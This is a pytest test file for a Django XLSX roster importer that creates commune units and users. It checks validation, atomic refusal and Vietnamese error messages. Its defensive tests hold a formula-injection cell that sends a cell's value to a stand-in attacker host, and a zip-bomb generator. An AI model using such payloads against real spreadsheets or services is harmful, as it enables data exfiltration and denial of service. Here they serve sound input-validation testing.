"""Importing a commune's units and people from one XLSX: everything or nothing, every problem in
Vietnamese with its sheet, row and column, the file checked before it is parsed."""

from __future__ import annotations

import io
import time
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.core import mail

from xaso.onboarding.models import Delivery, RosterImport, SetupLink
from xaso.onboarding.tests.rosters import commune_roster, workbook
from xaso.units.models import Membership, OrgUnit

pytestmark = pytest.mark.django_db
User = get_user_model()


def counts(commune):
    return (
        OrgUnit.objects.filter(commune=commune).count(),
        Membership.objects.filter(unit__commune=commune).count(),
        User.objects.count(),
        RosterImport.objects.count(),
        SetupLink.objects.count(),
    )


def text(response) -> str:
    return response.content.decode()


def test_thirty_units_and_sixty_people_are_imported(demo, tan_tien, post_roster, django_capture_on_commit_callbacks):
    units, people = commune_roster(tan_tien.code)
    with django_capture_on_commit_callbacks(execute=True):
        response = post_roster(tan_tien, workbook(units, people))
    assert response.status_code == 302
    assert OrgUnit.objects.filter(commune=tan_tien).exclude(pk=tan_tien.pk).count() == 30
    assert User.objects.filter(memberships__unit__commune=tan_tien).distinct().count() == 60
    owner = User.objects.get(username=f"{tan_tien.code}.vhxh")
    assert (owner.last_name, owner.first_name, owner.has_usable_password()) == ("Nguyễn Thị", "Hằng", False)
    assert [(m.unit.code, m.role) for m in owner.memberships.all()] == [(f"{tan_tien.code}-vhxh", "programme_owner")]
    editor = User.objects.get(username=f"{tan_tien.code}.bientap")
    assert sorted(m.role for m in editor.memberships.all()) == ["portal_editor", "reporter"]
    village = OrgUnit.objects.get(commune=tan_tien, name="Thôn số 1")
    assert (village.kind, village.code, village.get_parent()) == ("village", f"{tan_tien.code}-thon-so-1", tan_tien)
    record = RosterImport.objects.get()
    assert (record.units_created, record.people_created, record.roles_granted) == (30, 60, 61)
    assert record.file.read()[:2] == b"PK"
    # people with an e-mail get their link at once; the others are printed
    with_email = sum(1 for row in people if row[2])
    assert len(mail.outbox) == with_email == SetupLink.objects.filter(delivery=Delivery.EMAIL).count()


def test_importing_the_same_file_again_changes_nothing(demo, tan_tien, post_roster):
    data = workbook(*commune_roster(tan_tien.code, units=8, people=6))
    post_roster(tan_tien, data)
    before = counts(tan_tien)
    response = post_roster(tan_tien, data)
    assert response.status_code == 302
    after = counts(tan_tien)
    assert after[:3] == before[:3]
    record = RosterImport.objects.order_by("-created_at", "-pk")[0]
    assert (record.units_created, record.units_updated, record.people_created, record.roles_granted) == (0, 0, 0, 0)


def refused(post_roster, commune, data, *expected):
    before = counts(commune)
    response = post_roster(commune, data)
    assert response.status_code == 400, response
    body = text(response)
    assert "Tệp bị từ chối, không có gì được nhập." in body
    for message in expected:
        assert message in body, message
    assert counts(commune) == before
    return body


UNIT = ["", "Phòng Văn hóa - Xã hội", "", "Phòng, đơn vị thuộc UBND xã", ""]
PERSON = ["Nguyễn Thị Hằng", "tt.vhxh2", "hang@xa.example", "Phòng Văn hóa - Xã hội", "Chủ trì chương trình", ""]


def test_wrong_headers_are_refused(demo, tan_tien, post_roster):
    data = workbook([UNIT], [PERSON], people_headers=["Tên", "Tài khoản", "Email", "Nơi làm việc", "Quyền", "Chức vụ"])
    refused(
        post_roster,
        tan_tien,
        data,
        "Trang “Người dùng”, dòng 1: thiếu cột “Họ và tên”. Hãy dùng đúng tệp mẫu, giữ nguyên dòng tiêu đề.",
        "Trang “Người dùng”, dòng 1: thiếu cột “Vai trò”.",
    )


def test_empty_rows_are_skipped_and_half_empty_rows_refused(demo, tan_tien, post_roster):
    person = ["Trần Văn Nam", "", "", "Phòng Văn hóa - Xã hội", "", ""]
    body = refused(
        post_roster,
        tan_tien,
        workbook([UNIT, ["", "", "", "", ""], [*UNIT[:2], "", "", ""]], [PERSON, [None] * 6, person]),
        "Trang “Đơn vị”, dòng 4, cột “Loại đơn vị”: cần nhập.",
        "Trang “Người dùng”, dòng 4, cột “Tên đăng nhập”: cần nhập.",
        "Trang “Người dùng”, dòng 4, cột “Vai trò”: cần nhập.",
    )
    assert "dòng 3," not in body


def test_duplicate_usernames_and_emails_are_refused(demo, tan_tien, post_roster):
    twin = ["Trần Văn Nam", "TT.VHXH2", "Hang@Xa.Example", "Phòng Văn hóa - Xã hội", "Cán bộ báo cáo", ""]
    taken = ["Lê Văn Lâm", "vhxh.lan", "lam@xa.example", "Phòng Văn hóa - Xã hội", "Cán bộ báo cáo", ""]
    email_taken = ["Lê Văn Tú", "tt.tu", "so.khcn@xaso.local", "Phòng Văn hóa - Xã hội", "Cán bộ báo cáo", ""]
    refused(
        post_roster,
        tan_tien,
        workbook([UNIT], [PERSON, twin, taken, email_taken]),
        "Trang “Người dùng”, dòng 3, cột “Tên đăng nhập”: trùng với dòng 2.",
        "Trang “Người dùng”, dòng 3, cột “Thư điện tử”: trùng với dòng 2.",
        "Trang “Người dùng”, dòng 4, cột “Tên đăng nhập”: tên đăng nhập “vhxh.lan” đã có người dùng khác (ngoài xã này) dùng.",
        "Trang “Người dùng”, dòng 5, cột “Thư điện tử”: thư điện tử “so.khcn@xaso.local” đã là của một người dùng khác.",
    )


def test_unknown_roles_and_unit_kinds_are_refused(demo, tan_tien, post_roster):
    unit = ["", "Trạm Y tế xã", "", "Bệnh viện", ""]
    person = [*PERSON[:4], "Chủ tịch; Cán bộ báo cáo", ""]
    province_role = ["Vi Văn Hải", "tt.hai", "", "Phòng Văn hóa - Xã hội", "Cán bộ theo dõi cấp tỉnh", ""]
    refused(
        post_roster,
        tan_tien,
        workbook([UNIT, unit], [person, province_role]),
        "Trang “Đơn vị”, dòng 3, cột “Loại đơn vị”: không có loại đơn vị “Bệnh viện” (xem trang “Danh mục”).",
        "Trang “Người dùng”, dòng 2, cột “Vai trò”: không có vai trò “Chủ tịch” (xem trang “Danh mục”).",
        "Trang “Người dùng”, dòng 3, cột “Vai trò”: vai trò “Cán bộ theo dõi cấp tỉnh” là của cấp tỉnh, không giao trong danh sách của xã.",
    )


def test_a_role_on_the_wrong_kind_of_unit_is_refused(demo, tan_tien, post_roster):
    school = ["", "Trường Tiểu học Tân Tiến", "", "Trường học", ""]
    leader = ["Hoàng Văn Thắng", "tt.thang", "", "Trường Tiểu học Tân Tiến", "Lãnh đạo", ""]
    refused(
        post_roster,
        tan_tien,
        workbook([school], [leader]),
        "Trang “Người dùng”, dòng 2, cột “Vai trò”: vai trò “Lãnh đạo” không giao được cho Trường Tiểu học Tân Tiến (trường học).",
    )


def test_a_units_parent_missing_or_impossible_is_refused(demo, tan_tien, post_roster):
    orphan = ["", "Tổ công nghệ số thôn 1", "", "Tổ chức chính trị - xã hội", "Thôn Nà Cạn"]
    nested = ["", "Chi hội Phụ nữ thôn 2", "", "Tổ chức chính trị - xã hội", "Phòng Văn hóa - Xã hội"]
    refused(
        post_roster,
        tan_tien,
        workbook([UNIT, orphan, nested], [PERSON]),
        "Trang “Đơn vị”, dòng 3, cột “Trực thuộc”: không có đơn vị “Thôn Nà Cạn” trong trang “Đơn vị” hay trong xã.",
        "Trang “Đơn vị”, dòng 4, cột “Trực thuộc”: không thể đặt tổ chức chính trị - xã hội trực thuộc Phòng Văn hóa - Xã hội.",
    )


def test_a_person_in_a_unit_that_does_not_exist_is_refused(demo, tan_tien, post_roster):
    person = [*PERSON[:3], "Phòng Tư pháp", *PERSON[4:]]
    refused(
        post_roster,
        tan_tien,
        workbook([UNIT], [person]),
        "Trang “Người dùng”, dòng 2, cột “Đơn vị”: không có đơn vị “Phòng Tư pháp” trong trang “Đơn vị” hay trong xã.",
    )


def test_a_formula_cell_is_refused_and_never_evaluated(demo, tan_tien, post_roster):
    person = [
        '=HYPERLINK("http://ke-xau.example/?d="&B2,"Bấm")',
        "tt.a",
        "",
        "Phòng Văn hóa - Xã hội",
        "Cán bộ báo cáo",
        "",
    ]
    refused(
        post_roster,
        tan_tien,
        workbook([UNIT], [PERSON, person]),
        "Trang “Người dùng”, dòng 3, cột “Họ và tên”: ô chứa công thức (=HYPERLINK(",
        "hãy nhập giá trị, không dùng công thức.",
    )


def test_text_that_looks_like_a_formula_is_refused_as_a_name(demo, tan_tien, post_roster):
    person = ["+84 Nguyễn", "tt.b", "", "Phòng Văn hóa - Xã hội", "Cán bộ báo cáo", ""]
    unit = ["", "@Phòng Tư pháp", "", "Phòng, đơn vị thuộc UBND xã", ""]
    refused(
        post_roster,
        tan_tien,
        workbook([UNIT, unit], [person]),
        "Trang “Người dùng”, dòng 2, cột “Họ và tên”: phải bắt đầu bằng chữ cái (không bắt đầu bằng =, +, -, @).",
        "Trang “Đơn vị”, dòng 3, cột “Tên đơn vị”: phải bắt đầu bằng chữ cái",
    )


def test_five_thousand_rows_are_refused_before_parsing(demo, tan_tien, post_roster):
    units, people = commune_roster(tan_tien.code, units=10, people=5000, emails=False)
    started = time.monotonic()
    refused(
        post_roster,
        tan_tien,
        workbook(units, people),
        "Trang tính “Người dùng” của tệp có 5001 dòng, 6 cột, vượt quá khả năng nhập (tối đa 1001 dòng, 30 cột).",
    )
    assert time.monotonic() - started < 60  # a sanity bound, not a benchmark


def zip_bomb() -> bytes:
    """A 300 KB "XLSX" whose worksheet unpacks to 300 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            chunk = b" " * (1024 * 1024)
            for _ in range(300):
                part.write(chunk)
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_quickly(demo, tan_tien, post_roster):
    bomb = zip_bomb()
    assert len(bomb) < 400 * 1024
    started = time.monotonic()
    refused(post_roster, tan_tien, bomb, "khi giải nén nặng 300 MB, vượt giới hạn 40 MB; hãy chia nhỏ tệp.")
    assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("danh-sach.xlsx", b"Ho va ten,Ten dang nhap\n", "không phải bảng tính Excel (.xlsx)"),
        ("danh-sach.xlsx", b"PK\x03\x04broken", "không phải là tệp XLSX hợp lệ"),
    ],
)
def test_files_that_are_not_spreadsheets_are_refused(demo, tan_tien, post_roster, name, data, message):
    refused(post_roster, tan_tien, data, message)


def test_a_file_without_the_people_sheet_is_refused(demo, tan_tien, post_roster):
    from openpyxl import Workbook

    book = Workbook()
    book.active.title = "Đơn vị"
    book.active.append(["Tên đơn vị *", "Loại đơn vị *"])
    buffer = io.BytesIO()
    book.save(buffer)
    refused(post_roster, tan_tien, buffer.getvalue(), "Tệp thiếu trang “Người dùng”. Hãy dùng đúng tệp mẫu.")


def test_one_bad_row_among_many_imports_nothing(demo, tan_tien, post_roster):
    units, people = commune_roster(tan_tien.code)
    people[40][4] = "Trưởng thôn"
    refused(
        post_roster,
        tan_tien,
        workbook(units, people),
        "Trang “Người dùng”, dòng 42, cột “Vai trò”: không có vai trò “Trưởng thôn” (xem trang “Danh mục”).",
    )


@pytest.mark.parametrize("persona", ["quang", "lan", "thu", "hung"])
def test_only_the_provinces_administrator_imports(demo, tan_tien, post_roster, persona):
    before = counts(tan_tien)
    response = post_roster(tan_tien, workbook([UNIT], [PERSON]), user=getattr(demo, persona))
    assert response.status_code in (302, 403, 404)
    assert counts(tan_tien) == before
